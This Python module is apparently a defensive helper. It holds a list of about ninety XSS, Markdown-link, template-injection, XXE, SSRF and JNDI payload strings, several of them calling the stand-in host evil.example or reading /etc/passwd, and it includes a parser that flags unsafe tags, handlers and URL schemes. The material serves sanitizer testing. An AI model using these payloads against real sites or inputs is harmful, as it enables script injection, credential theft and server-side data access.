"""Strings written to run, load or submit something where shown as HTML or Markdown; and what
does so in HTML."""

from __future__ import annotations

from html.parser import HTMLParser

SCRIPT = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='x'onerror='alert(1)'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>@import '//evil.example'</style>",
    "<form action=//evil.example><input name=password>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x]( javascript:alert(1) )",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    '[x](http://a.example "onmouseover=alert(1)")',
    '[x](http://a.example/"onmouseover="alert(1))',
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    '![x" onerror="alert(1)](http://a.example/x.png)',
    "<javascript:alert(1)>",
    "<http://a.example/?<script>>",
    "[x]: javascript:alert(1)\n\n[x]",
    '```"onmouseover=alert(1)\nx\n```',
    "```<script>\nalert(1)\n```",
    "`<script>alert(1)</script>`",
    "> <script>alert(1)</script>",
    "| <script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p style=x:expression(alert(1))>x</p>",
    "<a href='http://a.example' target=_blank>x</a>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<x contenteditable onblur=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "';alert(1)//",
    "${alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "<%= 7 * 7 %>",
    "#{7*7}",
    "${jndi:ldap://evil.example/a}",
    "{% import os %}",
    "__proto__",
    "constructor",
    "__class__.__mro__",
    "file:///etc/passwd",
    "http://169.254.169.254/latest/meta-data/",
    "http://127.0.0.1:1/",
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    "data:text/html,x",
    "//evil.example",
    "http://a.example\\@evil.example",
    "http://user:password@a.example",
    "http://[::1]/",
    "http://a.example:99999/",
    "https://xn--a.example/",
    "http://",
    "://",
    "ftp://a.example/",
    "ws://a.example/",
    "blob:http://a.example/x",
    "mailto:a@b?bcc=c@d",
    "tel:+1",
    "http://a.example/%00",
)

SAFE_SCHEMES = frozenset(("http", "https", "mailto"))
UNSAFE_TAGS = frozenset(
    (
        *("script", "iframe", "object", "embed", "style", "form", "input", "svg", "math", "base"),
        *("meta", "link", "template", "noscript", "body", "html", "frame", "frameset", "applet"),
        *("textarea", "button", "video", "audio"),
    )
)


class _UnsafeParts(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in UNSAFE_TAGS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name in ("style", "srcdoc", "formaction", "srcset"):
                self.found.append(f"<{tag} {name}>")
            scheme, colon, _ = "".join((value or "").split()).lower().partition(":")
            if (
                name in ("href", "src")
                and colon
                and "/" not in scheme
                and scheme not in SAFE_SCHEMES
            ):
                self.found.append(f"<{tag} {name}={scheme}:>")


def unsafe_parts(html: str) -> list[str]:
    """Tags and attributes that run, submit or load something; links to follow are safe."""
    parser = _UnsafeParts()
    parser.feed(html)
    parser.close()
    return parser.found
